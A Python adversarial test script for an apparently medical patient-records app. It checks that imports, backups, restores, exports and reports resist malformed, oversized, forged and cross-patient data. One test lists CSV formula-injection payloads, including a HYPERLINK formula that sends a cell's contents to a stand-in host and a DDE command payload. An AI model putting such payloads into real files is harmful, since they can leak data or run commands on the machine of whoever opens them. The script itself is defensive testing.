"""Re-runs the cases of issue 17 ("data safety, second round") as an attacker and an unlucky user
would: through the command line (``python -m companion``) and a few lines of Python where the
window would act, on throw-away folders under a temporary directory only.

    .venv/bin/python bench/adversarial_data.py [--repo PATH] [--verbose]

``--repo`` runs the code of another checkout (for a before/after comparison). Prints one line per
area: cases, held, failed, and cases where acknowledged data was lost; with ``--verbose``, every
case. Nothing here asserts; the exit code is 0 when every case held.

Not re-run here (others work on them): ``dose delete``/``diary delete``, control characters in
``diary list``, and the DST and UTC-offset items of ``diary add``.
"""

from __future__ import annotations

import argparse
import contextlib
import datetime as dt
import json
import os
import re
import resource
import shutil
import sqlite3
import stat
import subprocess
import sys
import tempfile
import time
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

HERE = Path(__file__).resolve().parent
TODAY = "2026-06-15"
DB = "companion.sqlite3"


@dataclass
class Outcome:
    held: bool
    lost: bool = False
    note: str = ""


@dataclass
class Case:
    area: str
    name: str
    run: Callable[[], Outcome]


class Env:
    """Runs the app of ``repo`` in an isolated home under ``base``."""

    def __init__(self, repo: Path, base: Path):
        self.repo = repo
        self.base = base
        self.home = base / "home"
        self.home.mkdir(parents=True, exist_ok=True)
        self.count = 0

    def env(self, **extra) -> dict[str, str]:
        env = {k: v for k, v in os.environ.items() if k not in ("LC_ALL", "PYTHONPATH")}
        env.update(
            PYTHONPATH=str(self.repo),
            COMPANION_TODAY=TODAY,
            TZ="UTC",
            HOME=str(self.home),
            XDG_DATA_HOME=str(self.home / "data"),
            XDG_CONFIG_HOME=str(self.home / "config"),
            LANGUAGE="en",
            QT_QPA_PLATFORM="offscreen",
        )
        env.update(extra)
        return env

    def folder(self, name: str) -> Path:
        self.count += 1
        return self.base / f"{self.count:03d}-{name}"

    def cli(self, folder: Path | None, *args: str, timeout: float = 60, limit_memory: bool = False, **env):
        argv = (
            [sys.executable, "-m", "companion"] + (["--data-dir", str(folder)] if folder else []) + list(args)
        )

        def cap() -> None:  # a runaway read must not take the shared machine's memory
            resource.setrlimit(resource.RLIMIT_AS, (1 << 30, 1 << 30))

        try:
            return subprocess.run(
                argv,
                cwd=self.base,
                env=self.env(**env),
                capture_output=True,
                text=True,
                timeout=timeout,
                preexec_fn=cap if limit_memory else None,
            )
        except subprocess.TimeoutExpired:
            return subprocess.CompletedProcess(argv, -999, "", "timed out")

    def py(self, code: str, *args: str, timeout: float = 60) -> subprocess.CompletedProcess:
        return subprocess.run(
            [sys.executable, "-c", code, *args],
            cwd=self.base,
            env=self.env(),
            capture_output=True,
            text=True,
            timeout=timeout,
        )

    def patient(self, name: str = "Anna Weber", born: str = "1970-03-02", label: str = "patient") -> Path:
        folder = self.folder(label)
        code = (
            "import sys, datetime as dt\n"
            "from companion.services import PatientRecords\n"
            "from companion.core.models import DoseRecord\n"
            "r = PatientRecords.open(sys.argv[1], today=lambda: dt.date(2026, 6, 15))\n"
            "r.profile.update(display_name=sys.argv[2], birth_date=dt.date.fromisoformat(sys.argv[3]),"
            " onboarding_done=True)\n"
            "r.doses.record(DoseRecord(given_on=dt.date(2026, 5, 4), note='first'))\n"
            "r.doses.record(DoseRecord(given_on=dt.date(2026, 5, 18)))\n"
            "r.close()\n"
        )
        done = self.py(code, str(folder), name, born)
        if done.returncode != 0:
            raise RuntimeError(done.stderr)
        return folder

    def export(self, folder: Path) -> dict:
        target = self.base / f"export-{self.count}-{folder.name}.json"
        self.count += 1
        done = self.cli(folder, "export", "-o", str(target))
        if done.returncode != 0:
            raise RuntimeError(done.stderr)
        return json.loads(target.read_text(encoding="utf-8"))

    def write_json(self, document: dict) -> Path:
        self.count += 1
        path = self.base / f"file-{self.count}.json"
        path.write_text(json.dumps(document, ensure_ascii=False), encoding="utf-8")
        return path


def rows(db: Path, sql: str, params=()) -> list[tuple]:
    conn = sqlite3.connect(f"file:{db}?mode=ro", uri=True)
    try:
        return conn.execute(sql, params).fetchall()
    finally:
        conn.close()


def dose_days(folder: Path) -> list[str]:
    return [r[0] for r in rows(folder / DB, "SELECT given_on FROM dose WHERE deleted_at IS NULL ORDER BY 1")]


def dump(folder: Path) -> dict:
    """Every file of a folder (SQLite files as a dump of a copy), to tell "nothing changed"."""
    state = {}
    scratch = Path(tempfile.mkdtemp())
    try:
        copy = scratch / "copy"
        shutil.copytree(folder, copy)
        for path in sorted(copy.rglob("*")):
            if not path.is_file() or path.name.endswith(("-wal", "-shm")):
                continue
            data = path.read_bytes()
            if data.startswith(b"SQLite format 3\x00"):
                conn = sqlite3.connect(path)
                state[str(path.relative_to(copy))] = list(conn.iterdump())
                conn.close()
            else:
                state[str(path.relative_to(copy))] = data
    finally:
        shutil.rmtree(scratch)
    return state


# --- the cases --------------------------------------------------------------------------------------


def cases(e: Env) -> list[Case]:
    found: list[Case] = []

    def case(area: str, name: str):
        def register(fn):
            found.append(Case(area, name, fn))
            return fn

        return register

    lost_area, mixed, sent, bounded = (
        "Acknowledged data lost",
        "Records wrong or mixed",
        "Data sent where it should not go",
        "Bounded and honest",
    )

    # H1: restore under an open window; the window's later writes must not be lost.
    @case(lost_area, "H1 restore while a window holds the folder")
    def _():
        folder = e.patient()
        backup = e.cli(folder, "backup").stdout.strip()
        window = subprocess.Popen(
            [
                sys.executable,
                "-c",
                "import sys, datetime as dt\n"
                "from companion.services.folders import FolderLock\n"
                "from companion.services import PatientRecords\n"
                "from companion.core.models import DoseRecord\n"
                "lock = FolderLock(sys.argv[1]); assert lock.acquire()\n"
                "r = PatientRecords.open(sys.argv[1], today=lambda: dt.date(2026, 6, 15))\n"
                "print('ready', flush=True); sys.stdin.readline()\n"
                "r.doses.record(DoseRecord(given_on=dt.date(2026, 6, 14), note='acknowledged'))\n"
                "print('written', flush=True); r.close(); lock.release()\n",
                str(folder),
            ],
            stdin=subprocess.PIPE,
            stdout=subprocess.PIPE,
            stderr=subprocess.PIPE,
            env=e.env(),
            text=True,
        )
        window.stdout.readline()
        restored = e.cli(folder, "restore", backup)
        window.stdin.write("go\n")
        window.stdin.flush()
        acknowledged = window.stdout.readline().strip() == "written"
        window.wait(timeout=60)
        kept = "2026-06-14" in dose_days(folder)
        return Outcome(
            restored.returncode == 2 and kept, lost=acknowledged and not kept, note=restored.stderr[-120:]
        )

    # H2: the backup before a wrong import survives the next window start.
    @case(lost_area, "H2 backup, wrong import, window start: the data before is in a backup")
    def _():
        folder = e.patient()
        before = dose_days(folder)
        e.cli(folder, "backup")
        other = e.patient("Anna Weber", "1970-03-02", "laptop")
        e.cli(other, "dose", "add", "2026-06-01")
        e.cli(folder, "import", str(e.write_json(e.export(other))))
        e.py(
            "import sys\nfrom companion.services import PatientRecords\n"
            "r = PatientRecords.open(sys.argv[1]); r.backups.at_start(); r.close()\n",
            str(folder),
        )
        backups = sorted((folder / "backups").glob("*.sqlite3"))
        held = any(
            [r[0] for r in rows(b, "SELECT given_on FROM dose WHERE deleted_at IS NULL ORDER BY 1")] == before
            for b in backups
        )
        return Outcome(held, lost=not held)

    @case(lost_area, "H2 five backup calls in a row leave five backups")
    def _():
        folder = e.patient()
        printed = [e.cli(folder, "backup").stdout.strip() for _ in range(5)]
        existing = [p for p in printed if p and Path(p).exists()]
        return Outcome(len(set(existing)) == 5, note=f"{len(set(existing))} of 5 exist")

    clock_patch = (
        "import sys, types, datetime as real\n"
        "class Fake(real.datetime):\n"
        "    @classmethod\n"
        "    def now(cls, tz=None):\n"
        "        t = cls.fromisoformat(sys.argv[2])\n"
        "        return t.astimezone(tz) if tz else t.astimezone().replace(tzinfo=None)\n"
        "import companion.store.backups as b\n"
        "b.dt = types.SimpleNamespace(\n"
        "    datetime=Fake, UTC=real.UTC, timedelta=real.timedelta, date=real.date)\n"
        "from companion.cli import main\n"
        "sys.exit(main(['--data-dir', sys.argv[1], 'backup']))\n"
    )

    @case(bounded, "M4 backup with the clock in 2020 prints a file that exists")
    def _():
        folder = e.patient()
        for _ in range(3):
            e.cli(folder, "backup")
        done = e.py(clock_patch, str(folder), "2020-01-01T09:00:00+00:00")
        path = done.stdout.strip()
        return Outcome(bool(path) and Path(path).exists(), note=done.stderr[-120:])

    @case(bounded, "M4 a backup dated 2099 is not newest for ever nor the one recommended")
    def _():
        folder = e.patient()
        e.cli(folder, "backup")
        future = e.py(clock_patch, str(folder), "2099-01-01T09:00:00+00:00").stdout.strip()
        e.cli(folder, "dose", "add", "2026-06-01")
        sane = e.cli(folder, "backup").stdout.strip()
        hint = e.py(
            "import sys\nfrom pathlib import Path\nfrom companion.store.backups import newest_good_backup\n"
            "print(newest_good_backup(Path(sys.argv[1])).path)\n",
            str(folder),
        ).stdout.strip()
        return Outcome(hint == sane and hint != future, note=f"hint {Path(hint).name}")

    # H3: records that commands refuse, in an import.
    future_rows = [
        ("dose", {"given_on": "9999-12-01"}),
        ("dose", {"given_on": "2030-01-07"}),
        ("diary_entry", {"at": "2026-06-20T09:00:00+02:00"}),
        ("alsfrs", {"rated_on": "2027-01-01"}),
        ("measurement", {"measured_on": "2027-01-01"}),
        ("medication", {"since": "2031-01-01"}),
        ("question", {"created_on": "2026-12-24"}),
        ("appointment", {"on_date": "9999-12-31"}),
        ("dose", {"given_on": "1850-01-01"}),
    ]
    seed_code = (
        "import sys, datetime as dt\n"
        "from companion.services import PatientRecords\n"
        "from companion.core.models import *\n"
        "r = PatientRecords.open(sys.argv[1], today=lambda: dt.date(2026, 6, 15))\n"
        "z = dt.timezone(dt.timedelta(hours=2))\n"
        "r.diary.add(DiaryEntry(at=dt.datetime(2026, 6, 1, 9, 0, tzinfo=z), symptoms={'headache': 1}))\n"
        "r.alsfrs.add(AlsfrsRating(rated_on=dt.date(2026, 5, 1), scores=(4,) * 12))\n"
        "r.visit.add_measurement(Measurement(measured_on=dt.date(2026, 6, 2), kind=MeasurementKind.WEIGHT,"
        " value=70.5))\n"
        "r.visit.add_medication(Medication(name='Riluzole'))\n"
        "r.visit.add_question(Question(text='How long?', created_on=dt.date(2026, 6, 1)))\n"
        "r.appointments.book(Appointment(on=dt.date(2026, 7, 1)))\n"
        "r.close()\n"
    )

    def seeded() -> Path:
        folder = e.patient()
        done = e.py(seed_code, str(folder))
        if done.returncode != 0:
            raise RuntimeError(done.stderr)
        return folder

    for table, change in future_rows:

        @case(mixed, f"H3 import of a {table} with {change}")
        def _(table=table, change=change):
            folder = seeded()
            document = e.export(folder)
            row = dict(document["records"][table][0], id=f"bad-{table}", **change)
            document["records"][table].append(row)
            before = dump(folder)
            done = e.cli(folder, "import", str(e.write_json(document)))
            unchanged = dump(folder) == before
            schedule = (
                e.cli(folder, "schedule").returncode == 0
                and e.cli(folder, "calendar", "-o", str(e.base / f"cal-{e.count}.ics")).returncode == 0
            )
            named = f"bad-{table}" in done.stderr or next(iter(change.values()))[:10] in done.stderr
            return Outcome(done.returncode == 2 and unchanged and schedule and named, note=done.stderr[-140:])

    for table, column in [
        ("dose", "note"),
        ("dose", "place"),
        ("appointment", "note"),
        ("diary_entry", "note"),
    ]:

        @case(mixed, f"M2 import of a {table} {column} of 120,000 characters is refused, naming it")
        def _(table=table, column=column):
            folder = seeded()
            document = e.export(folder)
            document["records"][table][0][column] = "x" * 120_000
            done = e.cli(folder, "import", str(e.write_json(document)))
            return Outcome(done.returncode == 2 and "id" in done.stderr, note=done.stderr[-120:])

    @case(mixed, "M2 dose add of a 120,000-character note: refused, or its export reads back")
    def _():
        folder = e.patient()
        added = e.cli(folder, "dose", "add", "2026-06-01", "--note", "x" * 120_000)
        if added.returncode == 2:
            return Outcome(True)
        back = e.cli(folder, "import", str(e.write_json(e.export(folder))))
        return Outcome(back.returncode == 0, note=back.stderr[-120:])

    @case(mixed, "H3 a future dose already in the database: schedule and calendar work")
    def _():
        folder = e.patient()
        conn = sqlite3.connect(folder / DB)
        conn.execute(
            "INSERT INTO dose (id, given_on, created_at, updated_at) VALUES ('f', '9999-12-01', 'x', 'x')"
        )
        conn.commit()
        conn.close()
        ok = e.cli(folder, "schedule").returncode == 0
        ok &= e.cli(folder, "calendar", "-o", str(e.base / f"c{e.count}.ics")).returncode == 0
        return Outcome(ok)

    @case(mixed, "H4 another person's export is refused, profile unchanged")
    def _():
        anna, ben = e.patient(), e.patient("Ben Weber", "1972-01-01", "ben")
        e.cli(ben, "dose", "add", "2026-06-01")
        before = dump(anna)
        done = e.cli(anna, "import", str(e.write_json(e.export(ben))))
        return Outcome(done.returncode == 2 and dump(anna) == before, note=done.stderr[-120:])

    @case(mixed, "H4 restoring another person's backup is refused")
    def _():
        anna, ben = e.patient(), e.patient("Ben Weber", "1972-01-01", "ben")
        backup = e.cli(ben, "backup").stdout.strip()
        before = dump(anna)
        done = e.cli(anna, "restore", backup)
        return Outcome(done.returncode == 2 and dump(anna) == before, note=done.stderr[-120:])

    @case(mixed, "H4 the same person set up on two computers still merges")
    def _():
        anna, laptop = e.patient(), e.patient(label="laptop")
        e.cli(laptop, "dose", "add", "2026-06-01")
        done = e.cli(anna, "import", str(e.write_json(e.export(laptop))))
        return Outcome(done.returncode == 0 and "2026-06-01" in dose_days(anna), note=done.stderr[-120:])

    @case(mixed, "M3 five simultaneous dose add of one day store one (3 rounds)")
    def _():
        stored = []
        for day in ("2026-06-01", "2026-06-05", "2026-06-09"):
            folder = e.patient()
            argv = [sys.executable, "-m", "companion", "--data-dir", str(folder), "dose", "add", day]
            procs = [
                subprocess.Popen(argv, env=e.env(), stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
                for _ in range(5)
            ]
            for p in procs:
                p.wait(timeout=120)
            stored.append(dose_days(folder).count(day))
        return Outcome(stored == [1, 1, 1], note=f"stored {stored}")

    # M1: settings and stamps.
    settings = {
        "backup_mirror": None,
        "text_size": 200,
        "high_contrast": 1,
        "reminder_days": 30,
        "calendar_detail": 1,
        "language": "it",
        "report_language": "es",
        "onboarding_done": 0,
        "emergency_number": "0900 666",
    }
    for key, value in settings.items():

        @case(sent, f"M1 an imported profile cannot set {key}")
        def _(key=key, value=value):
            folder = e.patient()
            document = e.export(folder)
            mirror = e.base / f"mirror-{e.count}"
            profile = document["records"]["profile"][0]
            profile[key] = str(mirror) if value is None else value
            later = dt.datetime.now(dt.UTC) + dt.timedelta(minutes=30)  # changed after the folder's
            profile["updated_at"] = later.isoformat(timespec="seconds")
            e.cli(folder, "import", str(e.write_json(document)))
            e.py(
                "import sys\nfrom companion.services import PatientRecords\n"
                "r = PatientRecords.open(sys.argv[1]); r.backups.at_start(); r.close()\n",
                str(folder),
            )
            stored = rows(folder / DB, f"SELECT {key} FROM profile")[0][0]
            wanted = str(mirror) if value is None else value
            return Outcome(stored != wanted and not mirror.exists(), note=f"{key}={stored!r}")

    @case(sent, "M1 a change stamped 9999 does not win every later merge")
    def _():
        folder = e.patient()
        document = e.export(folder)
        profile = document["records"]["profile"][0]
        profile.update(care_team_phone="+1 555 0100", updated_at="9999-12-31T23:59:59+00:00")
        path = e.write_json(document)
        e.cli(folder, "import", str(path))
        e.py(
            "import sys\nfrom companion.services import PatientRecords\n"
            "r = PatientRecords.open(sys.argv[1]); r.profile.update(care_team_phone='+49 30 typed later');"
            " r.close()\n",
            str(folder),
        )
        e.cli(folder, "import", str(path))
        phone = rows(folder / DB, "SELECT care_team_phone FROM profile")[0][0]
        return Outcome(phone == "+49 30 typed later", note=phone)

    formulas = ['=HYPERLINK("http://x.example/?"&A1,"a")', "=cmd|' /C calc'!A0", "+1+1", "-1+1", "@SUM(1)"]

    @case(sent, "M7 CSV cells that start like a formula open as text")
    def _():
        folder = e.patient()
        for n, text in enumerate(formulas):
            e.cli(folder, "diary", "add", "--at", f"2026-06-0{n + 1}T09:00+02:00", f"--note={text}")
        target = e.base / f"diary-{e.count}.csv"
        e.cli(folder, "export", "-o", str(target))
        text = target.read_text(encoding="utf-8-sig")
        import csv
        import io

        table = list(csv.reader(io.StringIO(text)))
        cells = [c for row in table[1:] for c in row]
        raw = [c for c in cells if c[:1] in ("=", "+", "-", "@")]
        whole = len(table) - 1 == len(formulas)  # every entry was written (the case is not empty)
        return Outcome(whole and not raw, note=f"{len(table) - 1} rows, {len(raw)} raw formula cells")

    @case(sent, "L8 the PDF's metadata names no one")
    def _():
        folder = e.patient()
        target = e.base / f"summary-{e.count}.pdf"
        e.cli(folder, "report", "-o", str(target))
        data = target.read_bytes()
        info = re.findall(rb"/(?:Title|Author|Subject|Keywords)\s*(\((?:\\.|[^\\)])*\))", data)
        return Outcome(not any(b"Anna" in v or b"Weber" in v for v in info), note=repr(info)[:120])

    @case(sent, "L8 a preview left in the temp folder is removed at the next start")
    def _():
        tmp = e.base / f"tmp-{e.count}"
        tmp.mkdir()
        left = tmp / "companion-report-killed"
        left.mkdir(mode=0o700)
        (left / "summary.pdf").write_bytes(b"%PDF Anna Weber")
        old = time.time() - 2 * 3600
        os.utime(left, (old, old))
        folder = e.patient()
        e.cli(folder, "gui", "--smoke", TMPDIR=str(tmp), timeout=90)
        return Outcome(not left.exists())

    @case(sent, "umask 000: ~/.local/share is created 0700")
    def _():
        home = e.base / f"home-{e.count}"
        home.mkdir()
        env = e.env(HOME=str(home))
        del env["XDG_DATA_HOME"]
        subprocess.run(
            ["sh", "-c", 'umask 000 && exec "$0" -m companion dose add 2026-06-01', sys.executable],
            env=env,
            cwd=e.base,
            capture_output=True,
            timeout=60,
        )
        share = home / ".local" / "share"
        modes = [stat.S_IMODE(p.stat().st_mode) for p in (home / ".local", share) if p.exists()]
        return Outcome(modes == [0o700, 0o700], note=str([oct(m) for m in modes]))

    # M8 and the low items.
    @case(bounded, "M8 import /dev/zero is refused at once, saying why")
    def _():
        folder = e.patient()
        done = e.cli(folder, "import", "/dev/zero", timeout=60, limit_memory=True)
        return Outcome(
            done.returncode == 2 and "something went wrong" not in done.stderr, note=done.stderr[-100:]
        )

    @case(bounded, "M8 import of a FIFO does not hang")
    def _():
        folder = e.patient()
        fifo = e.base / f"fifo-{e.count}"
        os.mkfifo(fifo)
        done = e.cli(folder, "import", str(fifo), timeout=20)
        return Outcome(done.returncode == 2, note=done.stderr[-100:])

    @case(bounded, "M8 import of a file over 200 MB is refused without reading it")
    def _():
        folder = e.patient()
        big = e.base / f"big-{e.count}.json"
        with open(big, "wb") as fh:
            fh.truncate(200 * 1024 * 1024 + 1)
        done = e.cli(folder, "import", str(big), timeout=60, limit_memory=True)
        big.unlink()
        return Outcome(
            done.returncode == 2 and "something went wrong" not in done.stderr, note=done.stderr[-100:]
        )

    @case(bounded, "M5 --data-dir at an unrelated folder changes nothing")
    def _():
        shared = e.folder("shared")
        shared.mkdir()
        (shared / "photo.jpg").write_bytes(b"\xff\xd8")
        os.chmod(shared, 0o1777)
        done = e.cli(shared, "dose", "add", "2026-06-01")
        held = stat.S_IMODE(shared.stat().st_mode) == 0o1777 and not (shared / DB).exists()
        os.chmod(shared, 0o700)
        return Outcome(held and done.returncode == 2, note=done.stderr[-100:])

    @case(bounded, "M6 an empty database beside backups is not taken as a new patient")
    def _():
        folder = e.patient()
        e.cli(folder, "backup")
        (folder / DB).write_bytes(b"")
        done = e.cli(folder, "dose", "add", "2026-06-01")
        return Outcome(done.returncode != 0 and "backup" in done.stderr, note=done.stderr[-100:])

    @case(bounded, "L1 a refused import on a new folder creates no database")
    def _():
        bad = e.write_json({"format": "tofersen-companion-export", "version": 1, "records": {"dose": [1]}})
        folder = e.folder("new")
        done = e.cli(folder, "import", str(bad))
        return Outcome(done.returncode == 2 and not (folder / DB).exists())

    @case(bounded, "L1 a refused report on a new folder creates no database")
    def _():
        folder = e.folder("new")
        done = e.cli(folder, "report", "--from", "2030-01-01", "-o", str(e.base / f"r{e.count}.pdf"))
        return Outcome(done.returncode == 2 and not (folder / DB).exists())

    @case(bounded, "L3 a read-only folder: lists and schedule work")
    def _():
        folder = e.patient()
        paths = [folder / DB, folder]
        root = os.geteuid() == 0
        for p in paths:
            os.chmod(p, 0o500 if p.is_dir() else 0o400)
            if root:
                subprocess.run(["chattr", "+i", str(p)], check=True)
        try:
            results = [e.cli(folder, *c) for c in (["dose", "list"], ["diary", "list"], ["schedule"])]
        finally:
            for p in reversed(paths):
                if root:
                    subprocess.run(["chattr", "-i", str(p)], check=True)
            os.chmod(folder, 0o700)
        return Outcome(all(r.returncode == 0 for r in results), note=results[0].stderr[-100:])

    @case(bounded, "L5 a newer version's database keeps its bytes")
    def _():
        folder = e.patient()
        conn = sqlite3.connect(folder / DB)
        conn.execute("PRAGMA journal_mode=DELETE")
        conn.execute(
            "INSERT INTO _sqlite_migrations (migration_set, name, applied_at) "
            "VALUES ('tofersen_companion', 'm999', '2030-01-01')"
        )
        conn.commit()
        conn.close()
        before = (folder / DB).read_bytes()
        done = e.cli(folder, "dose", "list")
        return Outcome(done.returncode == 1 and (folder / DB).read_bytes() == before)

    @case(bounded, "L9 a database that is a symlink: refused, its target untouched")
    def _():
        source = e.patient()
        target = e.base / f"precious-{e.count}.sqlite3"
        shutil.copyfile(source / DB, target)
        os.chmod(target, 0o644)
        folder = e.folder("linked")
        folder.mkdir(mode=0o700)
        (folder / DB).symlink_to(target)
        done = e.cli(folder, "dose", "list")
        return Outcome(done.returncode != 0 and stat.S_IMODE(target.stat().st_mode) == 0o644)

    @case(bounded, "L10 gui --smoke on a damaged database exits")
    def _():
        folder = e.patient()
        e.cli(folder, "backup")
        data = bytearray((folder / DB).read_bytes())
        page = int.from_bytes(data[16:18], "big")
        for offset in range(page, len(data), page):
            data[offset] = 0xFF
        (folder / DB).write_bytes(bytes(data))
        for suffix in ("-wal", "-shm"):
            Path(f"{folder / DB}{suffix}").unlink(missing_ok=True)
        done = e.cli(folder, "gui", "--smoke", timeout=60)
        return Outcome(
            done.returncode not in (0, -999) and done.stderr.strip() != "", note=done.stderr[-100:]
        )

    return found


def main() -> int:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--repo", default=str(HERE.parent), help="the checkout whose code runs")
    parser.add_argument("--verbose", action="store_true", help="print every case")
    args = parser.parse_args()
    repo = Path(args.repo).resolve()
    base = Path(tempfile.mkdtemp(prefix="companion-adversarial-"))
    areas: dict[str, list[int]] = {}
    try:
        env = Env(repo, base)
        for c in cases(env):
            started = time.monotonic()
            try:
                outcome = c.run()
            except Exception as exc:  # a case that cannot even be set up counts as failed
                outcome = Outcome(False, note=f"{type(exc).__name__}: {str(exc)[:100]}")
            figures = areas.setdefault(c.area, [0, 0, 0, 0])
            figures[0] += 1
            figures[1 if outcome.held else 2] += 1
            figures[3] += outcome.lost
            if args.verbose:
                mark = "held" if outcome.held else "FAILED"
                lost = " DATA LOST" if outcome.lost else ""
                note = "" if outcome.held else f" — {' '.join(outcome.note.split())[:140]}"
                print(f"{mark:6} {time.monotonic() - started:5.1f}s {c.name}{lost}{note}", flush=True)
    finally:
        with contextlib.suppress(OSError):
            subprocess.run(["chattr", "-R", "-i", str(base)], capture_output=True)
        shutil.rmtree(base, ignore_errors=True)
    print(f"code: {repo}")
    print(f"{'area':36} {'cases':>5} {'held':>5} {'failed':>6} {'data lost':>9}")
    total = [0, 0, 0, 0]
    for area, figures in areas.items():
        print(f"{area:36} {figures[0]:5} {figures[1]:5} {figures[2]:6} {figures[3]:9}")
        total = [a + b for a, b in zip(total, figures, strict=True)]
    print(f"{'total':36} {total[0]:5} {total[1]:5} {total[2]:6} {total[3]:9}")
    return 0 if total[2] == 0 else 1


if __name__ == "__main__":
    sys.exit(main())
